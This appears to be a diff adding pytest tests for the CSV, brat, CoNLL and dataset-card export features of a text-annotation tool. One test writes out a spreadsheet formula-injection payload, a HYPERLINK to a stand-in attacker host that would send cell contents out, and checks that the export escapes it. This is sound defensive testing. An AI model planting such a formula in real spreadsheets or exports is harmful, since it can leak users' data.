@@ -13,6 +13,7 @@ from annotator.formats import EXPORT_FORMATS
 from annotator.models import AuditEvent, Document, Label, Span
 from annotator.services.documents import document_create_many
 from annotator.services.gold import gold_create
+from annotator.services.labels import label_create
 from annotator.services.members import member_add
 from annotator.services.projects import project_create
 from annotator.services.reviews import span_review
@@ -192,6 +193,50 @@ class TestExport:
             ("annotator2", wider(annotated), "with the name")
         ]
 
+    def test_csv_starts_with_a_byte_order_mark_and_names_title_and_source(self, client_for, owner, project,
+                                                                           annotated):  # fmt: skip
+        response = client_for(owner).get(url(project, "export"), {"format": "csv", "annotator": "annotator"})
+
+        data = body(response)
+        assert data.startswith(b"\xef\xbb\xbfdocument_id,external_id,title,source,annotator,")
+        [row] = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+        assert (row["title"], row["source"], row["text"]) == ("Talks resume", "Wire One", "told reporters")
+
+    def test_a_csv_note_that_would_run_as_a_formula_goes_out_quoted(self, client_for, owner, annotator, project,
+                                                                    document, label):  # fmt: skip
+        start = document.text.index("told reporters")
+        span_create(member=access_project(annotator, project.pk), document=document, label=label.pk, start=start,
+                    end=start + 14, note='=HYPERLINK("http://evil.example/?"&A1,"click")')  # fmt: skip
+
+        response = client_for(owner).get(url(project, "export"), {"format": "csv"})
+
+        [row] = list(csv.DictReader(io.StringIO(body(response).decode("utf-8-sig"))))
+        assert row["note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+    def test_csv_table_spans_is_the_default(self, client_for, owner, project, annotated):
+        client = client_for(owner)
+
+        default = body(client.get(url(project, "export"), {"format": "csv"}))
+        spans = body(client.get(url(project, "export"), {"format": "csv", "table": "spans"}))
+
+        assert default == spans
+
+    @pytest.mark.parametrize(
+        ("params", "message"),
+        [
+            ({"format": "csv", "table": "relations"}, "The csv export has no relations table yet"),
+            ({"format": "csv", "table": "answers"}, "The csv export has no answers table yet"),
+            ({"format": "csv", "table": "rows"}, "Unknown table 'rows'"),
+            ({"format": "jsonl", "table": "relations"}, "Only the csv export has tables"),
+        ],
+    )
+    def test_a_table_the_export_does_not_have_is_a_400_that_says_why(self, client_for, owner, project, params,
+                                                                     message):  # fmt: skip
+        response = client_for(owner).get(url(project, "export"), params)
+
+        assert response.status_code == 400
+        assert response.json()["table"][0].startswith(message)
+
     def test_brat_ann_offsets_slice_the_txt(self, client_for, owner, project, annotated):
         response = client_for(owner).get(url(project, "export"), {"format": "brat", "annotator": "annotator"})
 
@@ -201,6 +246,52 @@ class TestExport:
         _, kind_and_range, covered = entity.split("\t")
         _, start, end = kind_and_range.split(" ")
         assert text[int(start) : int(end)] == covered == "told reporters"
+
+    def test_brat_for_every_annotator_gives_each_a_folder_of_their_own(self, client_for, owner, project, annotated):
+        response = client_for(owner).get(url(project, "export"), {"format": "brat"})
+
+        archive = zipfile.ZipFile(io.BytesIO(body(response)))
+        pk = annotated.pk
+        assert sorted(archive.namelist()) == sorted(
+            ["annotation.conf", "visual.conf", f"annotator/{pk}.txt", f"annotator/{pk}.ann", f"annotator2/{pk}.txt",
+             f"annotator2/{pk}.ann"]
+        )  # fmt: skip
+        texts = {who: [row.split("\t")[2] for row in archive.read(f"{who}/{pk}.ann").decode().splitlines()
+                       if row.startswith("T")] for who in ("annotator", "annotator2")}  # fmt: skip
+        assert texts == {"annotator": ["told reporters"], "annotator2": [wider(annotated)]}
+
+    def test_brat_of_the_gold_layer_is_one_folder(self, client_for, owner, project, annotated):
+        response = client_for(owner).get(url(project, "export"), {"format": "brat", "layer": "gold"})
+
+        names = zipfile.ZipFile(io.BytesIO(body(response))).namelist()
+        assert sorted(names) == sorted(["annotation.conf", "visual.conf", f"{annotated.pk}.txt", f"{annotated.pk}.ann"])
+
+    def test_conll_starts_each_document_with_its_id(self, client_for, owner, project, annotated):
+        response = client_for(owner).get(url(project, "export"), {"format": "conll", "layer": "gold"})
+
+        lines = body(response).decode().split("\n")
+        assert lines[0] == f"-DOCSTART- -X- O O\t{annotated.pk}\tO"
+        assert "told\tB-Source_attribution" in lines and "reporters\tI-Source_attribution" in lines
+
+    @pytest.mark.parametrize("fmt", ["brat", "conll"])
+    def test_the_dataset_card_lists_the_type_each_renamed_label_has(self, client_for, owner, project, annotated,
+                                                                    fmt):  # fmt: skip
+        label_create(member=access_project(owner, project.pk), name="Source_attribution")
+        params = {"format": fmt, "layer": "gold", "zip": "true"}
+
+        response = client_for(owner).get(url(project, "export"), params)
+
+        archive = zipfile.ZipFile(io.BytesIO(body(response)))
+        card = archive.read("README.md").decode()
+        assert "| Source attribution | `Source_attribution_2` |" in card
+        assert "| Source_attribution |" not in card.split("## Type names")[1]
+        exported = archive.read(f"{annotated.pk}.ann" if fmt == "brat" else archive.namelist()[1]).decode()
+        assert "Source_attribution_2" in exported
+
+    def test_the_dataset_card_of_other_formats_has_no_type_names(self, client_for, owner, project, annotated):
+        response = client_for(owner).get(url(project, "export"), {"format": "jsonl", "zip": "true"})
+
+        assert "## Type names" not in zipfile.ZipFile(io.BytesIO(body(response))).read("README.md").decode()
 
     def test_zip_adds_a_dataset_card(self, client_for, owner, project, annotated):
         response = client_for(owner).get(url(project, "export"), {"format": "doccano", "zip": "true"})
